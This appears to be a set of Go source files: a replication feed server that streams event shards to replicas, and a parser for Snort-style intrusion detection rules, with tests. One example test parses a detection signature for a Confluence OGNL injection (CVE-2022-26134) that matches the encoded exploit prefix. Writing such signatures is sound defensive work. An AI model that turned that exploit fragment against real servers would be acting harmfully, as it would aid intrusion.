		if st, ok := f.replicas[id]; ok {
			fn(st)
		}
	}
}

// serve runs one replica connection: handshake, then rounds of
// ship-suffixes / barrier / ack until the connection dies or the feed closes.
func (f *Feed) serve(conn net.Conn) {
	conn.SetReadDeadline(time.Now().Add(30 * time.Second))
	payload, err := fleet.ReadFrame(conn, nil)
	if err != nil {
		return
	}
	hello, err := decodeRHello(payload)
	if err != nil {
		fleet.WriteFrame(conn, encodeRErr(err.Error()))
		return
	}
	parts := f.cfg.Store.CommittedEvents()
	if len(hello.Counts) != len(parts) {
		fleet.WriteFrame(conn, encodeRErr(fmt.Sprintf(
			"shard count mismatch: replica has %d, coordinator %d — replicate between stores of equal width",
			len(hello.Counts), len(parts))))
		return
	}
	defer func() {
		f.mu.Lock()
		if st, ok := f.replicas[hello.ID]; ok {
			st.Connected = false
		}
		f.mu.Unlock()
	}()
	f.status(hello.ID, conn.RemoteAddr().String())

	pos := append([]uint64(nil), hello.Counts...)
	apos := hello.Amends
	var seq uint64
	lastState := time.Time{}
	for {
		if f.cfg.Sync {
			// Make the published tail committed so it is shippable; cheap
			// no-op when nothing is dirty.
			if err := f.cfg.Store.Sync(); err != nil {
				fleet.WriteFrame(conn, encodeRErr("coordinator store: "+err.Error()))
				return
			}
		}
		parts := f.cfg.Store.CommittedEvents()
		amends := f.cfg.Store.Amendments()
		target := progress{Counts: make([]uint64, len(parts)), Amends: uint64(len(amends))}
		for i, p := range parts {
			target.Counts[i] = uint64(len(p))
		}

		// Divergence is fatal, not recoverable: a replica claiming more
		// events than the coordinator has committed is tailing the wrong
		// store (or the coordinator's was wiped). Shipping anything would
		// interleave two histories.
		for i := range pos {
			if pos[i] > target.Counts[i] {
				fleet.WriteFrame(conn, encodeRErr(fmt.Sprintf(
					"replica ahead of coordinator on shard %d (%d > %d): wipe the replica store and resync",
					i, pos[i], target.Counts[i])))
				return
			}
		}
		if apos > target.Amends {
			fleet.WriteFrame(conn, encodeRErr(fmt.Sprintf(
				"replica amendment log ahead of coordinator (%d > %d): wipe the replica store and resync",
				apos, target.Amends)))
			return
		}

		var sentEvents, sentAmends uint64
		for i, p := range parts {
			for int(pos[i]) < len(p) {
				chunk := p[pos[i]:]
				if len(chunk) > f.cfg.BatchEvents {
					chunk = chunk[:f.cfg.BatchEvents]
				}
				seq++
				if err := f.writeBatch(conn, seq, chunk); err != nil {
					return
				}
				pos[i] += uint64(len(chunk))
				sentEvents += uint64(len(chunk))
			}
		}
		if apos < target.Amends {
			if err := fleet.WriteFrame(conn, encodeAmends(amends[apos:])); err != nil {
				return
			}
			sentAmends = target.Amends - apos
			apos = target.Amends
		}

		if sentEvents > 0 || sentAmends > 0 || time.Since(lastState) >= f.cfg.Heartbeat {
			if err := fleet.WriteFrame(conn, encodeProgressMsg(msgRState, &target)); err != nil {
				return
			}
			lastState = time.Now()
			// The replica commits the cut, then acks; the ack is this round's
			// barrier.
			conn.SetReadDeadline(time.Now().Add(30 * time.Second))
			payload, err := fleet.ReadFrame(conn, nil)
			if err != nil {
				return
			}
			ack, err := decodeProgressMsg(payload, msgRAck, "Ack")
			if err != nil {
				return
			}
			f.update(func(st *FeedStatus) {
				st.EventsSent += sentEvents
				st.AmendsSent += sentAmends
				st.Rounds++
				st.AckedEvents = ack.events()
				st.AckedAmends = ack.Amends
				st.LagEvents = int64(target.events()) - int64(ack.events())
				st.LastAck = time.Now()
			})(hello.ID)
		}

		// Pace the poll; bail out promptly when the feed closes.
		f.mu.Lock()
		closed := f.closed
		f.mu.Unlock()
		if closed {
			return
		}
		time.Sleep(f.cfg.Poll)
	}
}

func (f *Feed) writeBatch(conn net.Conn, seq uint64, events []ids.Event) error {
	payload, err := fleet.EncodeEventBatch(seq, events, f.cfg.Codec)
	if err != nil {
		return err
	}
	return fleet.WriteFrame(conn, payload)
}
