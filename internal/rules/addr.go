package rules

import (
	"fmt"
	"net/netip"
	"strings"
)

// AddrSpec is a parsed address specification: `any`, a variable like
// `$HOME_NET` (resolved against an environment at evaluation time, with
// unresolved variables treated as `any`), a CIDR prefix, a single address,
// or a bracketed list of the above. Negation applies to the whole spec.
type AddrSpec struct {
	Any      bool
	Negated  bool
	Vars     []string
	Prefixes []netip.Prefix
}

// AnyAddr returns the `any` specification.
func AnyAddr() AddrSpec { return AddrSpec{Any: true} }

// Contains reports whether the spec matches addr under the given variable
// environment (mapping $VAR names without the dollar to prefix lists).
// Variables absent from env are treated as matching everything, mirroring
// Snort's common `any` defaults for HOME_NET/EXTERNAL_NET.
func (s AddrSpec) Contains(addr netip.Addr, env map[string][]netip.Prefix) bool {
	if s.Any {
		return true
	}
	in := false
	for _, p := range s.Prefixes {
		if p.Contains(addr) {
			in = true
			break
		}
	}
	if !in {
		for _, v := range s.Vars {
			prefixes, ok := env[v]
			if !ok {
				in = true // unresolved variable: permissive
				break
			}
			for _, p := range prefixes {
				if p.Contains(addr) {
					in = true
					break
				}
			}
			if in {
				break
			}
		}
	}
	if s.Negated {
		return !in
	}
	return in
}

// String renders the specification in rule syntax.
func (s AddrSpec) String() string {
	if s.Any {
		return "any"
	}
	var parts []string
	for _, v := range s.Vars {
		parts = append(parts, "$"+v)
	}
	for _, p := range s.Prefixes {
		parts = append(parts, p.String())
	}
	body := strings.Join(parts, ",")
	if len(parts) > 1 {
		body = "[" + body + "]"
	}
	if s.Negated {
		return "!" + body
	}
	return body
}

// ParseAddrSpec parses an address specification.
func ParseAddrSpec(text string) (AddrSpec, error) {
	t := strings.TrimSpace(text)
	if t == "" {
		return AddrSpec{}, fmt.Errorf("rules: empty address spec")
	}
	var spec AddrSpec
	if strings.EqualFold(t, "any") {
		spec.Any = true
		return spec, nil
	}
	if strings.HasPrefix(t, "!") {
		spec.Negated = true
		t = strings.TrimSpace(t[1:])
	}
	if strings.HasPrefix(t, "[") {
		if !strings.HasSuffix(t, "]") {
			return AddrSpec{}, fmt.Errorf("rules: unterminated address list %q", text)
		}
		t = t[1 : len(t)-1]
	}
	for _, item := range strings.Split(t, ",") {
		item = strings.TrimSpace(item)
		switch {
		case item == "":
			return AddrSpec{}, fmt.Errorf("rules: empty address list element in %q", text)
		case strings.HasPrefix(item, "$"):
			spec.Vars = append(spec.Vars, item[1:])
		case strings.Contains(item, "/"):
			p, err := netip.ParsePrefix(item)
			if err != nil {
				return AddrSpec{}, fmt.Errorf("rules: bad prefix %q: %w", item, err)
			}
			spec.Prefixes = append(spec.Prefixes, p)
		default:
			a, err := netip.ParseAddr(item)
			if err != nil {
				return AddrSpec{}, fmt.Errorf("rules: bad address %q: %w", item, err)
			}
			spec.Prefixes = append(spec.Prefixes, netip.PrefixFrom(a, a.BitLen()))
		}
	}
	return spec, nil
}
