package rules

import (
	"fmt"
	"io"
	"sort"
)

// Feed-level parsing: a ruleset feed (a Talos snapshot, a registry delta) is
// a multiset of rules in which the same SID may appear many times — older
// revisions left in place, vendor re-releases, concatenated feeds. ParseSet
// and ParseDatedSet resolve those duplicates deterministically so that the
// compiled engine never depends on the order rules happened to appear in:
//
//   - a higher rev always supersedes a lower rev of the same SID;
//   - byte-identical duplicates collapse silently;
//   - two *different* definitions with the same sid and rev are a feed bug
//     and are rejected loudly (an error naming the SID), while the output
//     still picks a deterministic winner so callers that tolerate errors get
//     order-independent behavior anyway.
//
// The resolved set is returned sorted by SID.

// ParseSet parses a ruleset feed (one rule per line, '#' comments) and
// resolves duplicate SIDs as described above. Per-line parse errors and
// duplicate-conflict errors are collected, not fatal.
func ParseSet(r io.Reader) ([]*Rule, []error) {
	parsed, errs := ParseRuleset(r)
	out, dupErrs := DedupSIDs(parsed)
	return out, append(errs, dupErrs...)
}

// ParseDatedSet is ParseSet over the dated-ruleset format: publication
// comments are parsed as in ParseDatedRuleset, then duplicate SIDs resolve by
// the same rev-wins rule. When byte-identical duplicates carry different
// publication dates the earliest date wins (publication is first
// availability).
func ParseDatedSet(r io.Reader) ([]DatedRule, []error) {
	parsed, errs := ParseDatedRuleset(r)
	out, dupErrs := DedupDatedSIDs(parsed)
	return out, append(errs, dupErrs...)
}

// DedupSIDs resolves duplicate SIDs in a parsed rule list: higher rev wins;
// identical same-rev duplicates collapse; conflicting same-sid same-rev
// definitions produce an error (and a deterministic winner). The result is
// sorted by SID, so the output never depends on input order.
func DedupSIDs(in []*Rule) ([]*Rule, []error) {
	var errs []error
	bySID := make(map[int]*Rule, len(in))
	for _, r := range in {
		cur, ok := bySID[r.SID]
		if !ok {
			bySID[r.SID] = r
			continue
		}
		winner, err := pickRule(cur, r)
		if err != nil {
			errs = append(errs, err)
		}
		bySID[r.SID] = winner
	}
	out := make([]*Rule, 0, len(bySID))
	for _, r := range bySID {
		out = append(out, r)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].SID < out[j].SID })
	return out, errs
}

// DedupDatedSIDs is DedupSIDs over dated rules, keeping the winning rule's
// publication date (the earliest one, for identical duplicates).
func DedupDatedSIDs(in []DatedRule) ([]DatedRule, []error) {
	var errs []error
	bySID := make(map[int]DatedRule, len(in))
	for _, dr := range in {
		cur, ok := bySID[dr.Rule.SID]
		if !ok {
			bySID[dr.Rule.SID] = dr
			continue
		}
		winner, err := pickRule(cur.Rule, dr.Rule)
		if err != nil {
			errs = append(errs, err)
		}
		switch {
		case winner == cur.Rule && winner == dr.Rule:
			// Identical text: same logical rule, keep the earliest date.
			if dr.Published.Before(cur.Published) {
				bySID[dr.Rule.SID] = dr
			}
		case winner == dr.Rule:
			bySID[dr.Rule.SID] = dr
		}
	}
	out := make([]DatedRule, 0, len(bySID))
	for _, dr := range bySID {
		out = append(out, dr)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Rule.SID < out[j].Rule.SID })
	return out, errs
}

// pickRule chooses between two definitions of one SID. When both rules are
// byte-identical it returns a (the call sites treat "winner == both" as the
// identical case). A same-rev conflict returns the lexicographically smaller
// Raw as the deterministic winner plus a loud error.
func pickRule(a, b *Rule) (*Rule, error) {
	if a.Rev != b.Rev {
		if b.Rev > a.Rev {
			return b, nil
		}
		return a, nil
	}
	if a.Raw == b.Raw {
		return a, nil
	}
	winner := a
	if b.Raw < a.Raw {
		winner = b
	}
	return winner, fmt.Errorf("rules: conflicting definitions for sid %d rev %d: %q vs %q",
		a.SID, a.Rev, truncate(a.Raw), truncate(b.Raw))
}

// MergeDated folds a delta (a later feed or registry journal entry) over a
// base ruleset: a delta rule replaces the base definition of its SID unless
// its rev is strictly lower (a later entry may re-date or amend the same
// rev; a stale lower rev never rolls an upgrade back). SIDs only in the
// delta are added. The result is sorted by SID.
func MergeDated(base, delta []DatedRule) []DatedRule {
	bySID := make(map[int]DatedRule, len(base)+len(delta))
	for _, dr := range base {
		bySID[dr.Rule.SID] = dr
	}
	for _, dr := range delta {
		if cur, ok := bySID[dr.Rule.SID]; ok && dr.Rule.Rev < cur.Rule.Rev {
			continue
		}
		bySID[dr.Rule.SID] = dr
	}
	out := make([]DatedRule, 0, len(bySID))
	for _, dr := range bySID {
		out = append(out, dr)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Rule.SID < out[j].Rule.SID })
	return out
}
