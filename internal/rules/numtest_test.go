package rules

import (
	"testing"
	"testing/quick"
)

func TestParseNumTest(t *testing.T) {
	cases := []struct {
		in      string
		n       int
		matches bool
	}{
		{"100", 100, true},
		{"100", 99, false},
		{"<100", 99, true},
		{"<100", 100, false},
		{">100", 101, true},
		{">100", 100, false},
		{"5<>10", 7, true},
		{"5<>10", 5, false},
		{"5<>10", 10, false},
		{" > 64 ", 65, true},
	}
	for _, c := range cases {
		nt, err := ParseNumTest(c.in)
		if err != nil {
			t.Errorf("ParseNumTest(%q): %v", c.in, err)
			continue
		}
		if got := nt.Matches(c.n); got != c.matches {
			t.Errorf("%q.Matches(%d) = %v, want %v", c.in, c.n, got, c.matches)
		}
	}
}

func TestParseNumTestErrors(t *testing.T) {
	for _, s := range []string{"", "abc", "-5", "10<>5", "<>", "5<>x"} {
		if _, err := ParseNumTest(s); err == nil {
			t.Errorf("ParseNumTest accepted %q", s)
		}
	}
}

func TestNumTestStringRoundTrip(t *testing.T) {
	f := func(lo uint16, hi uint16, opSel uint8) bool {
		l, h := int(lo), int(hi)
		if l > h {
			l, h = h, l
		}
		var nt NumTest
		switch opSel % 4 {
		case 0:
			nt = NumTest{Op: "=", Lo: l}
		case 1:
			nt = NumTest{Op: "<", Lo: l}
		case 2:
			nt = NumTest{Op: ">", Lo: l}
		default:
			nt = NumTest{Op: "<>", Lo: l, Hi: h}
		}
		parsed, err := ParseNumTest(nt.String())
		if err != nil {
			return false
		}
		for _, n := range []int{0, l - 1, l, l + 1, h, h + 1} {
			if n < 0 {
				continue
			}
			if parsed.Matches(n) != nt.Matches(n) {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestParseIsDataAt(t *testing.T) {
	d, err := ParseIsDataAt("100,relative")
	if err != nil {
		t.Fatal(err)
	}
	if d.Offset != 100 || !d.Relative || d.Negated {
		t.Errorf("d = %+v", d)
	}
	d, err = ParseIsDataAt("!512")
	if err != nil {
		t.Fatal(err)
	}
	if !d.Negated || d.Relative || d.Offset != 512 {
		t.Errorf("d = %+v", d)
	}
	if _, err := ParseIsDataAt("x"); err == nil {
		t.Error("accepted garbage")
	}
	if _, err := ParseIsDataAt("5,sideways"); err == nil {
		t.Error("accepted unknown modifier")
	}
}

func TestParseRuleWithSizeOptions(t *testing.T) {
	r, err := Parse(`alert tcp any any -> any any (msg:"overflow"; dsize:>512; content:"/login"; isdataat:400,relative; urilen:>256; sid:20;)`)
	if err != nil {
		t.Fatal(err)
	}
	if r.Dsize == nil || !r.Dsize.Matches(600) || r.Dsize.Matches(512) {
		t.Errorf("dsize = %+v", r.Dsize)
	}
	if r.Urilen == nil || !r.Urilen.Matches(300) {
		t.Errorf("urilen = %+v", r.Urilen)
	}
	if len(r.Contents[0].DataAts) != 1 || !r.Contents[0].DataAts[0].Relative {
		t.Errorf("DataAts = %+v", r.Contents[0].DataAts)
	}
}

func TestParseRuleIsDataAtAbsolute(t *testing.T) {
	r, err := Parse(`alert tcp any any -> any any (msg:"big"; isdataat:1000; sid:21;)`)
	if err != nil {
		t.Fatal(err)
	}
	if len(r.IsDataAts) != 1 || r.IsDataAts[0].Relative {
		t.Errorf("IsDataAts = %+v", r.IsDataAts)
	}
}

func TestParseRuleRelativeIsDataAtWithoutContent(t *testing.T) {
	if _, err := Parse(`alert tcp any any -> any any (msg:"x"; isdataat:5,relative; sid:22;)`); err == nil {
		t.Error("relative isdataat without content accepted")
	}
}
