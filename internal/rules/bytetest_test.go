package rules

import (
	"testing"
	"testing/quick"
)

func TestParseByteTest(t *testing.T) {
	bt, err := ParseByteTest("4, >, 1000, 0")
	if err != nil {
		t.Fatal(err)
	}
	if bt.Count != 4 || bt.Op != ">" || bt.Value != 1000 || bt.Offset != 0 {
		t.Errorf("bt = %+v", bt)
	}
	bt, err = ParseByteTest("2, !=, 0x1F, 8, relative, little")
	if err != nil {
		t.Fatal(err)
	}
	if !bt.Negated || bt.Op != "=" || bt.Value != 0x1f || !bt.Relative || !bt.LittleEndian {
		t.Errorf("bt = %+v", bt)
	}
	bt, err = ParseByteTest("5, =, 65535, 0, string, dec")
	if err != nil {
		t.Fatal(err)
	}
	if !bt.String || bt.Base != 10 {
		t.Errorf("bt = %+v", bt)
	}
}

func TestParseByteTestErrors(t *testing.T) {
	bad := []string{
		"", "4,>", "x,>,1,0", "4,??,1,0", "4,>,x,0", "4,>,1,x",
		"4,>,1,0,sideways", "9,>,1,0", "21,=,1,0,string,dec",
	}
	for _, s := range bad {
		if _, err := ParseByteTest(s); err == nil {
			t.Errorf("ParseByteTest accepted %q", s)
		}
	}
}

func TestByteTestEvalBinary(t *testing.T) {
	data := []byte{0x00, 0x00, 0x04, 0x00, 0xff} // bytes 0-3 big-endian = 1024
	cases := []struct {
		spec string
		want bool
	}{
		{"4, >, 1000, 0", true},
		{"4, >, 1024, 0", false},
		{"4, >=, 1024, 0", true},
		{"4, =, 1024, 0", true},
		{"4, !=, 1024, 0", false},
		{"4, <, 2000, 0", true},
		{"1, =, 255, 4", true},
		{"1, &, 0x80, 4", true},
		{"1, &, 0x80, 0", false},
		{"1, ^, 255, 4", false},         // 0xff ^ 0xff == 0
		{"2, =, 1024, 1, little", true}, // bytes 1-2 LE: 0x00, 0x04 -> 0x0400 = 1024
		{"4, =, 9, 9", false},           // out of range
	}
	for _, c := range cases {
		bt, err := ParseByteTest(c.spec)
		if err != nil {
			t.Fatalf("ParseByteTest(%q): %v", c.spec, err)
		}
		if got := bt.Eval(data, 0); got != c.want {
			t.Errorf("%q.Eval = %v, want %v", c.spec, got, c.want)
		}
	}
}

func TestByteTestEvalString(t *testing.T) {
	data := []byte("Content-Length: 1337\r\n")
	bt, err := ParseByteTest("4, >, 1000, 16, string, dec")
	if err != nil {
		t.Fatal(err)
	}
	if !bt.Eval(data, 0) {
		t.Error("string byte_test missed 1337 > 1000")
	}
	bt, _ = ParseByteTest("4, >, 2000, 16, string, dec")
	if bt.Eval(data, 0) {
		t.Error("string byte_test matched 1337 > 2000")
	}
	// Non-numeric text fails closed.
	bt, _ = ParseByteTest("4, >, 0, 0, string, dec")
	if bt.Eval(data, 0) {
		t.Error("non-numeric string parsed as number")
	}
}

func TestByteTestRelative(t *testing.T) {
	data := []byte("HDR:\x00\x10rest")
	bt, err := ParseByteTest("2, =, 16, 0, relative")
	if err != nil {
		t.Fatal(err)
	}
	if !bt.Eval(data, 4) { // prevEnd 4: reads bytes 4-5 = 0x0010 = 16
		t.Error("relative byte_test missed")
	}
	if bt.Eval(data, 0) {
		t.Error("relative byte_test matched at wrong anchor")
	}
}

func TestByteTestRenderRoundTrip(t *testing.T) {
	f := func(count uint8, opSel uint8, value uint16, offset int8, rel, str, little bool) bool {
		ops := []string{"<", ">", "=", "<=", ">=", "&", "^"}
		bt := ByteTest{
			Count:        int(count%8) + 1,
			Op:           ops[int(opSel)%len(ops)],
			Value:        uint64(value),
			Offset:       int(offset),
			Relative:     rel,
			String:       str,
			Base:         10,
			LittleEndian: little && !str,
		}
		parsed, err := ParseByteTest(bt.render())
		if err != nil {
			return false
		}
		data := []byte{0x01, 0x02, 0x03, 0x04, 0x05, 0x06, 0x07, 0x08, 0x09, 0x0a, '1', '2', '3'}
		for _, prev := range []int{0, 2} {
			if parsed.Eval(data, prev) != bt.Eval(data, prev) {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

func TestParseRuleWithByteTest(t *testing.T) {
	r, err := Parse(`alert tcp any any -> any 4900 (msg:"moxa len"; content:"MOXA"; byte_test:2,>,64,0,relative; sid:40;)`)
	if err != nil {
		t.Fatal(err)
	}
	if len(r.Contents[0].ByteTests) != 1 {
		t.Fatalf("ByteTests = %+v", r.Contents[0].ByteTests)
	}
	r2, err := Parse(`alert tcp any any -> any any (msg:"abs"; byte_test:1,=,0x16,0; sid:41;)`)
	if err != nil {
		t.Fatal(err)
	}
	if len(r2.ByteTests) != 1 || r2.ByteTests[0].Value != 0x16 {
		t.Fatalf("rule-level ByteTests = %+v", r2.ByteTests)
	}
	if _, err := Parse(`alert tcp any any -> any any (msg:"bad"; byte_test:2,>,64,0,relative; sid:42;)`); err == nil {
		t.Error("relative byte_test without content accepted")
	}
}
