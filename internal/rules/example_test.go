package rules_test

import (
	"fmt"
	"log"

	"repro/internal/rules"
)

func ExampleParse() {
	r, err := rules.Parse(`alert tcp any any -> any 8090 (msg:"Confluence OGNL"; content:"/%24%7B"; http_uri; reference:cve,2022-26134; sid:59934; rev:1;)`)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println(r.SID, r.CVEs()[0], r.DstPorts.Contains(8090), r.DstPorts.Contains(80))
	// Output: 59934 2022-26134 true false
}

func ExampleRule_PortInsensitive() {
	r, err := rules.Parse(`alert tcp any any -> any 8090 (msg:"x"; content:"p"; sid:1;)`)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println(r.PortInsensitive().DstPorts.Contains(80))
	// Output: true
}
